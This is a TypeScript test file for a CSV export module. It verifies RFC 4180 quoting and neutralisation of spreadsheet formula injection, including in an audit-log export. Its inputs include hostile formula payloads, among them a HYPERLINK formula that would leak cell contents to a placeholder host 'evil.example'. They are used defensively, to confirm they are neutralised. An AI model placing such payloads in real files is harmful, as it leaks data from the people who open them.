/**
 * The exported-CSV cell: RFC 4180 quoting, OWASP's formula-injection rule for text, numbers left
 * as numbers; and the audit-log export writing hostile audit text neutralised.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exportDecisions } from '../../src/main/app/queries/exportDecisions';
import { Store } from '../../src/main/store/store';
import { csvCell, csvLine } from '../../src/shared/csv';

/** The fields of one CSV line (RFC 4180 quoting), as a spreadsheet or a reader splits it. */
function fields(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m; m = re.exec(line)) {
    const raw = m[1] ?? '';
    out.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (m[2] === '') break;
  }
  return out;
}

describe('csvCell', () => {
  it('neutralises text starting with = + - @ tab or CR: a leading quote, and quoted', () => {
    expect(csvCell('=HYPERLINK("http://evil.example","x")')).toBe(
      `"'=HYPERLINK(""http://evil.example"",""x"")"`,
    );
    expect(csvCell('+1+cmd')).toBe(`"'+1+cmd"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    // Text that merely looks like a number is still text from outside: neutralised too.
    expect(csvCell('-1')).toBe(`"'-1"`);
  });

  it('leaves finite numbers as numbers, negative ones included', () => {
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(0.25)).toBe('0.25');
    expect(csvCell(-1.5e-7)).toBe('-1.5e-7');
    expect(csvCell(12n)).toBe('12');
    // Not a number a spreadsheet reads: treated as text.
    expect(csvCell(-Infinity)).toBe(`"'-Infinity"`);
    expect(csvCell(NaN)).toBe('NaN');
  });

  it('quotes per RFC 4180 (and on ;) and leaves plain text alone', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('')).toBe('');
    expect(csvCell('analyst')).toBe('analyst');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('says "hi", with a comma')).toBe('"says ""hi"", with a comma"');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('x;=cmd()')).toBe('"x;=cmd()"');
    expect(csvCell(true)).toBe('true');
  });

  it('round-trips through an RFC 4180 reader as the text with one leading quote', () => {
    const hostile = ['=1+2";=1+2', '@x,y', '-', 'plain'];
    expect(fields(csvLine([...hostile, -3]))).toEqual([
      `'=1+2";=1+2`,
      `'@x,y`,
      `'-`,
      'plain',
      '-3',
    ]);
  });
});

describe('audit log export (CSV)', () => {
  it('writes hostile audit text neutralised and the ids as numbers', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rampart-csv-'));
    const store = Store.open(':memory:');
    try {
      store.appendAudit({
        actor: '@analyst',
        action: '+settings',
        subject: '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
        detail: { note: 'ok' },
      });
      const out = await exportDecisions(store, dir, { what: 'audit', format: 'csv' }, 'electron');
      const [header, line] = readFileSync(out.path, 'utf8').trimEnd().split('\n') as [
        string,
        string,
      ];
      const columns = header.split(',');
      const row = fields(line);
      const cell = (c: string): string => row[columns.indexOf(c)]!;
      expect(cell('id')).toBe('1');
      expect(cell('actor')).toBe(`'@analyst`);
      expect(cell('action')).toBe(`'+settings`);
      expect(cell('subject')).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"open")`);
      expect(cell('automatic')).toBe('0');
      expect(cell('detail')).toBe('{"note":"ok"}');
      // No cell of the file starts a formula.
      expect(row.every((f) => !/^[=+\-@\t\r]/.test(f))).toBe(true);
    } finally {
      store.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
